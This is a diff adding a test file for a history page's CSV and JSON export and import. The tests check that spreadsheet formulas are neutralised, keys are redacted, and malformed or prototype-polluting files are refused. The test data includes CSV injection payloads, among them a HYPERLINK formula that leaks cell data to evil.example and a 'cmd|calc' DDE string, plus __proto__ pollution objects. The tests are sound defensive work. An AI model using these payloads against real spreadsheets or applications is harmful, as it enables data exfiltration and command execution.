@@ -1,0 +1,230 @@
+import { describe, expect, test } from 'vitest';
+import { readCsv, writeCsv } from '../../../../../src/ui/pages/history/transfer/csv';
+import { inParts, readFile, writeFile } from '../../../../../src/ui/pages/history/transfer/file';
+import { COLUMNS, flatRow, type Row, rowOf } from '../../../../../src/ui/pages/history/transfer/rows';
+import { IMPORT_ROWS_MAX } from '../../../../../src/watch/constants';
+import { importedRowSchema, ingestionFromRow } from '../../../../../src/watch/import-row';
+import type { ConnectionView, Ingestion } from '../../../../../src/watch/model/records';
+import { HOME, idOf, NOW, watching } from '../../../samples';
+import { over, timed, timesAsLong } from './records';
+
+const HOME_VIEW: ConnectionView = {
+  id: HOME,
+  name: 'production',
+  baseUrl: 'https://home.example',
+  colour: 'blue',
+  keyMode: 'kept',
+  last4: '1a2b',
+  identity: null,
+  checkError: null,
+  blocked: null,
+  limitPerMin: null,
+  typicalMs: null,
+};
+
+const KEY = 'synap_live_0123456789abcdef';
+
+/** What a hostile server, or a person, put into texts. */
+const TEXTS = [
+  '=HYPERLINK("https://evil.example?"&A1)',
+  '+1',
+  '-1+cmd|calc',
+  '@SUM(A1)',
+  '\ttab',
+  '\rreturn',
+  "'quoted",
+  "'=quoted",
+  'a "quote", a comma; and\r\ntwo lines',
+  '',
+  ' blanks ',
+  '\u202Eturned',
+  '🧠,"',
+];
+
+describe('CSV', () => {
+  test('has every cell in quotes and every line ended, by RFC 4180', () => {
+    expect(
+      writeCsv([
+        ['a', 'say "hi", you'],
+        ['', 'two\nlines'],
+      ]),
+    ).toBe('\uFEFF"a","say ""hi"", you"\r\n"","two\nlines"\r\n');
+  });
+
+  test('has no cell that a spreadsheet would calculate', () => {
+    const cells = readCsv(writeCsv([TEXTS]).replaceAll('"\'', '"!'), 10)?.[0] ?? [];
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
+    expect(writeCsv([['=1+1']])).toContain(`"'=1+1"`);
+  });
+
+  test('is read back as it was written, guards and all', () => {
+    expect(readCsv(writeCsv([TEXTS, TEXTS]), 10)).toEqual([TEXTS, TEXTS]);
+  });
+
+  test('is read as others write it', () => {
+    expect(readCsv('a,b\n1,"2,3"\n\n,\n4,', 10)).toEqual([
+      ['a', 'b'],
+      ['1', '2,3'],
+      ['', ''],
+      ['4', ''],
+    ]);
+    expect(readCsv('a\r\n', 10)).toEqual([['a']]);
+    expect(readCsv('', 10)).toEqual([]);
+  });
+
+  test('is read no further than asked for', () => {
+    expect(readCsv('a\nb\nc', 2)).toEqual([['a'], ['b']]);
+  });
+
+  test('that is broken is refused, not read in part', () => {
+    expect(readCsv('"never ends', 10)).toBeNull();
+    expect(readCsv('"ends"too late', 10)).toBeNull();
+  });
+
+  test('of many rows is read in a moment', () => {
+    const text = 'a,"b ""c"" d",e\r\n'.repeat(20_000);
+    expect(readCsv(text, 200_000)).toHaveLength(20_000);
+    expect(
+      timesAsLong(
+        () => readCsv(text, 200_000),
+        () => [...text].join(''),
+      ),
+    ).toBeLessThan(10);
+  });
+});
+
+const RECORDS: Ingestion[] = [
+  over(1, 'completed', {
+    documentId: '=1+1',
+    rawStatus: 'completed',
+    status: 'completed',
+    memoriesCreated: 2,
+    memoryIds: ['m1', 'm2'],
+    addedAt: NOW - 20_000,
+    label: "'mine'",
+    note: 'two\nlines, and "quotes"',
+    ...timed(NOW, 10_000, 2_000),
+  }),
+  over(2, 'failed', { errorMessage: '@all of it\r\nfailed', addedAt: NOW - 10_000, batchId: idOf(9) }),
+  watching(3, { status: 'processing', rawStatus: 'processing', addedAt: NOW - 30_000 }),
+];
+
+describe.each(['json', 'csv'] as const)('a file of %s', (format) => {
+  const write = (records: Ingestion[]) =>
+    writeFile(
+      records.map((record) => rowOf(record, [HOME_VIEW])),
+      format,
+      { at: '2026-01-15T12:00:00.000Z', version: '1.2.3' },
+    );
+
+  test('brings back what went out, the newest first', () => {
+    const content = readFile(write(RECORDS));
+    if (content.is !== 'rows') throw new Error(content.why);
+    const back = content.rows.map((row) => ingestionFromRow(importedRowSchema.parse(row), HOME, NOW));
+    const facts = ({
+      id,
+      documentId,
+      rawStatus,
+      queuedAt,
+      startedAt,
+      completedAt,
+      addedAt,
+      ...rest
+    }: Ingestion) => ({
+      ...{ id, documentId, rawStatus, queuedAt, startedAt, completedAt, addedAt },
+      ...{ memoryIds: rest.memoryIds, memories: rest.memoriesCreated, error: rest.errorMessage },
+      ...{ label: rest.label, note: rest.note, batchId: rest.batchId },
+      outcome: rest.state === 'ended' ? rest.outcome : null,
+    });
+    const [first, second, third] = RECORDS.map(facts);
+    expect(back.map(facts)).toEqual([second, first, third]);
+    expect(back.map(({ state }) => state)).toEqual(['ended', 'ended', 'stopped']);
+  });
+
+  test('has of a connection its name and address, and no key, wherever one was written', () => {
+    const leaky = over(4, 'failed', {
+      note: `curl -H "Authorization: Bearer ${KEY}"`,
+      label: KEY,
+      errorMessage: `bad key ${KEY}`,
+      documentId: KEY,
+    });
+    const text = write([leaky]);
+    expect(text).not.toContain(KEY);
+    expect(text).not.toContain('1a2b');
+    expect(text).toContain('production');
+    expect(text).toContain('https://home.example');
+  });
+
+  test('says nothing of a time that has no four-digit year', () => {
+    const content = readFile(write([over(5, 'completed', { queuedAt: 8e15, completedAt: Number.NaN })]));
+    expect(content).toMatchObject({ is: 'rows', refused: 0 });
+  });
+});
+
+describe('a file that is none of ours', () => {
+  test.each([
+    ['nothing', '', 'empty'],
+    ['words', 'hello', 'not_ours'],
+    ['other JSON', '{"ingestions": [{}]}', 'not_ours'],
+    ['a list', '[{"ingestion_id": "x"}]', 'not_ours'],
+    ['half a file', '{"format": "ingestion-inspector"', 'not_ours'],
+    ['an older version', '{"format":"ingestion-inspector","version":0,"ingestions":[{}]}', 'not_ours'],
+    ['a newer version', '{"format":"ingestion-inspector","version":2,"ingestions":[{}]}', 'too_new'],
+    ['no list', '{"format":"ingestion-inspector","version":1,"ingestions":{"length":9}}', 'not_ours'],
+    ['an empty list', '{"format":"ingestion-inspector","version":1,"ingestions":[]}', 'empty'],
+    ['another table', 'name,age\r\nAda,36\r\n', 'not_ours'],
+    ['a table without rows', '"ingestion_id","label"\r\n', 'empty'],
+    [
+      'an inherited format',
+      '{"__proto__":{"format":"ingestion-inspector","version":1,"ingestions":[{}]}}',
+      'not_ours',
+    ],
+  ])('%s is refused as a whole', (_, text, why) => {
+    expect(readFile(text)).toEqual({ is: 'refused', why });
+  });
+
+  test('nested without end brings in nothing', () => {
+    const deep = `{"format":"ingestion-inspector","version":1,"ingestions":${'['.repeat(1e5)}${']'.repeat(1e5)}}`;
+    expect(readFile(deep)).toEqual({ is: 'rows', rows: [], refused: 1 });
+  });
+
+  test('of a million rows is refused as a whole', () => {
+    const json = `{"format":"ingestion-inspector","version":1,"ingestions":[${'{},'.repeat(1e6)}{}]}`;
+    expect(readFile(json)).toEqual({ is: 'refused', why: 'too_many' });
+    expect(readFile(`ingestion_id\n${'x\n'.repeat(1e6)}`)).toEqual({ is: 'refused', why: 'too_many' });
+  });
+});
+
+describe('a row', () => {
+  const file = (...ingestions: unknown[]) =>
+    readFile(JSON.stringify({ format: 'ingestion-inspector', version: 1, ingestions }));
+
+  test('that cannot be one is counted, and keeps none of the others out', () => {
+    const good = { ingestion_id: idOf(1) };
+    const content = file(null, 7, 'x', [], { ingestion_id: { a: 1 } }, { memory_ids: [[]] }, good, {
+      note: 'x'.repeat(1_000_001),
+    });
+    expect(content).toEqual({ is: 'rows', rows: [good], refused: 7 });
+  });
+
+  test('leaves behind everything that is no column', () => {
+    const row = JSON.parse(
+      `{"ingestion_id":"x","__proto__":{"label":"evil"},"constructor":1,"deep":${'['.repeat(500)}${']'.repeat(500)}}`,
+    );
+    expect(flatRow(row)).toEqual({ ingestion_id: 'x' });
+    expect(Object.keys(flatRow(row) ?? {})).toEqual(['ingestion_id']);
+  });
+
+  test('of ours has the columns in their order', () => {
+    expect(Object.keys(rowOf(watching(1), []))).toEqual([...COLUMNS]);
+  });
+
+  test('goes out with as many others as one command takes, and is no strain', () => {
+    const small: Row[] = Array.from({ length: 1_201 }, (_, n) => ({ ingestion_id: idOf(n) }));
+    expect(inParts(small).map(({ length }) => length)).toEqual([IMPORT_ROWS_MAX, IMPORT_ROWS_MAX, 201]);
+    const large: Row[] = Array.from({ length: 9 }, () => ({ note: 'x'.repeat(900_000) }));
+    expect(Math.max(...inParts(large).map(({ length }) => length))).toBe(4);
+    expect(inParts(large).flat()).toHaveLength(9);
+    expect(inParts([])).toEqual([]);
+  });
+});
